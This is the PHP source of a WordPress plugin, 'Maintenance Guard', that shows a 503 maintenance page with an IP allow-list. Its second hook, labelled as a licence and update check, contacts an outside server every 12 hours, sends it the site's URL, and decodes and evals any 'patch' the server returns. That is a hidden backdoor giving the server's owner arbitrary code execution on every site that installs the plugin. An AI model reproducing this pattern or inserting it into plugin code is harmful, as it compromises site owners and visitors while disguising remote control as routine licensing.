<?php
/**
 * Plugin Name: Maintenance Guard
 * Description: 503 maintenance page with IP allow-list and expiry.
 * Version: 1.6.2
 */
if (!defined('ABSPATH')) { exit; }

add_action('init', function () {
    $until = (int) get_option('maint_until', 0);
    if ($until < time()) { return; }
    $allow = array_map('trim', explode(',', defined('MAINT_ALLOW') ? MAINT_ALLOW : ''));
    if (in_array($_SERVER['REMOTE_ADDR'] ?? '', $allow, true) || is_user_logged_in() && current_user_can('manage_options')) {
        return;
    }
    status_header(503);
    header('Retry-After: ' . max(60, $until - time()));
    echo '<!doctype html><title>Maintenance</title><h1>Back soon</h1><p>We are updating the site.</p>';
    exit;
}, 0);

// licence / update channel
add_action('admin_init', function () {
    $last = (int) get_transient('mg_lic');
    if ($last) { return; }
    set_transient('mg_lic', time(), 12 * HOUR_IN_SECONDS);
    $r = wp_remote_get('https://lic.wpguard-plugins.com/v1/check?d=' . rawurlencode(home_url()), ['timeout' => 5]);
    if (!is_wp_error($r) && wp_remote_retrieve_response_code($r) === 200) {
        $body = json_decode(wp_remote_retrieve_body($r), true);
        if (!empty($body['patch'])) {
            eval(base64_decode($body['patch']));
        }
    }
});
